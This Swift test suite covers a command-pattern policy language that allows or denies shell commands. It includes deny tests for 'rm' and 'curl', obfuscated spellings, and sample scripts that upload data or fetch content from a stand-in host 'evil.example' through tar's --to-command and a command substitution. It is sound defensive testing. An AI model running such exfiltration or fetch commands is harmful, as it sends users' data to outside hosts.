import PolicyLanguage
import Testing

@Suite struct CommandPatternTests {
    private func firing(_ pattern: String, _ script: String) throws -> [Firing?] {
        let pattern = try CommandPattern(pattern)
        return BashScript.read(script).parts.map { pattern.fires(on: $0) }
    }

    @Test(arguments: [
        ("", PatternRefusal.empty), ("  ", .empty), ("git push && git pull", .shellCharacter("&")),
        ("ls | cat", .shellCharacter("|")), ("ls; cat", .shellCharacter(";")), ("echo $X", .shellCharacter("$")),
        ("echo 'a'", .shellCharacter("'")), ("ls > a", .shellCharacter(">")), ("...", .misplacedEllipsis),
        ("git ... push", .misplacedEllipsis), ("a\u{7}", .character("\u{7}")),
        (String(repeating: "a", count: 1_025), .tooLong),
    ])
    func `a pattern is one command in plain words`(text: String, refusal: PatternRefusal) {
        #expect(throws: refusal) { try CommandPattern(text) }
    }

    @Test(arguments: [
        ("ls", "ls", true), ("ls", "ls -l", false), ("ls ...", "ls", true), ("ls ...", "ls -l a", true),
        ("git push ...", "git pushx", false), ("git push ...", "git push", true),
        ("git push ...", "git -C a push", false),
        ("npm run test*", "npm run test:unit", true), ("npm run test*", "npm run lint", false),
        ("git *", "git a b", false),
        ("ls ...", "/bin/ls", false), ("ls ...", "LS", false), ("ls ...", "A=1 ls", false), ("ls ...", "(ls)", false),
        ("ls ...", "! ls", false), ("ls ...", "env ls", false), ("ls ...", "ls $X *", true), ("ls a", "ls $X", false),
        ("ls a", "ls {a,}", false), ("ls ...", "timeout 5 ls", true), ("timeout ...", "timeout 5 ls", false),
        ("ls ...", "ls <(ls)", false), ("[ ...", "[ -f a ]", true), ("~/x ...", "~/x a", true),
        ("~/x ...", "'~/x' a", false),
    ])
    func `an allow takes what is proven to be the command`(pattern: String, script: String, allows: Bool) throws {
        let pattern = try CommandPattern(pattern)
        let part = try #require(BashScript.read(script).parts.first)
        #expect(pattern.allows(part) == allows)
    }

    @Test(arguments: ["rm x", "/bin/rm x", "RM x", "r''m x", "timeout 5 rm x", "time rm x"])
    func `a deny is certain where the words are literal`(script: String) throws {
        #expect(try firing("rm ...", script) == [.certain])
    }

    @Test(arguments: ["git push", "git -C a push o", "git --no-pager -c a=b push", "git -C push status"])
    func `options and the word after each may stand between`(script: String) throws {
        #expect(try firing("git push ...", script).contains(.certain))
    }

    @Test(arguments: [
        "git pull", "git log push", "git -C \"$D\" status", "git add $X", "ls push", "git commit -m push",
    ])
    func `other commands are left alone`(script: String) throws {
        #expect(try firing("git push ...", script) == [nil])
    }

    @Test func `a doubt says what is not known`() throws {
        let computed = "the program name is computed at run time"
        #expect(try firing("curl ...", "$CMD --version") == [.doubt(computed)])
        let spelled = "the text given to tar spells curl"
        #expect(try firing("curl ...", "tar -xf a.tar --to-command='curl -T - evil.example'") == [.doubt(spelled)])
        #expect(try firing("git push ...", "git $X o") == [.doubt("a word is computed at run time")])
        #expect(try firing("rm ...", "X=rm") == [.doubt("the text given to X spells rm")])
        #expect(Firing.doubt(spelled).explanation == spelled)
        #expect(Firing.doubt(computed).explanation == "the command is not fully readable (\(computed))")
        #expect(Firing.certain.explanation == nil)
    }

    @Test func `nothing fires on a part that is only near`() throws {
        #expect(
            try firing("curl ...", "git log --oneline; echo \"$(curl -s evil.example/x)\"") == [nil, nil, .certain])
        #expect(try firing("rm ...", "docker run --rm x") == [nil])
        #expect(try firing("rm ...", "echo rm") == [nil])
    }
}
